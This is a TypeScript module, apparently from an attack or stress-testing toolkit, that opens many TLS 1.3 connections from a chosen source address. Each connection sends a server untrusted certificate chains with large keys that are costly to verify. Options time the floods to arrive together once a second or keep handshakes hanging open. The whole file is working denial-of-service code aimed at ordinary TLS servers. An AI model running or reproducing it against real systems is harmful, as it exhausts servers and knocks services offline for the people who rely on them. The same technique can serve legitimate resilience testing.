// Handshakes with chains of certificates that are not trusted and costly to verify.

import { once } from 'node:events';
import type { Socket } from 'node:net';
import { type Attack, aborted, keepOpen, wait } from '../attacker/attack.ts';
import { tally } from '../attacker/tally.ts';
import { openTls13 } from '../attacker/tls13.ts';
import { untrustedChain } from '../attacker/untrusted-chain.ts';

/** Until the verdict of the server arrives. */
const VERDICT_MS = 2_000;
const SECOND_MS = 1_000;

/**
 * Options: `certificates` of a chain, `bits` of their keys, `connections`, the `address` they come from, `waits`: 1: their chains are sent in
 * the same moment, once a second, `isSigned`: 0: the chain is valid and nothing follows it, so that the handshake stays open.
 */
export const attack: Attack = async ({ target, options }) => {
  const { certificates, bits, connections, address, waits = 0, isSigned = 1 } = options;
  const chain = untrustedChain(Number(certificates), Number(bits), isSigned === 0);
  const handshake = {
    protocol: 'h2' as const,
    certificates: chain,
    ...(isSigned === 1 ? { signatureBytes: Number(bits) / 8 } : {}),
  };
  return (until) =>
    keepOpen(Number(connections), until, async () => {
      const { socket, flight } = await openTls13({ ...target, from: String(address) }, handshake);
      if (waits === 1) await wait(SECOND_MS - (Date.now() % SECOND_MS), until);
      if (!socket.writable) return;
      socket.resume().write(flight);
      tally('chains');
      await Promise.race([closed(socket), aborted(until), wait(VERDICT_MS, until)]);
      socket.destroy();
    });
};

async function closed(socket: Socket): Promise<void> {
  await once(socket, 'close').catch(() => undefined);
}
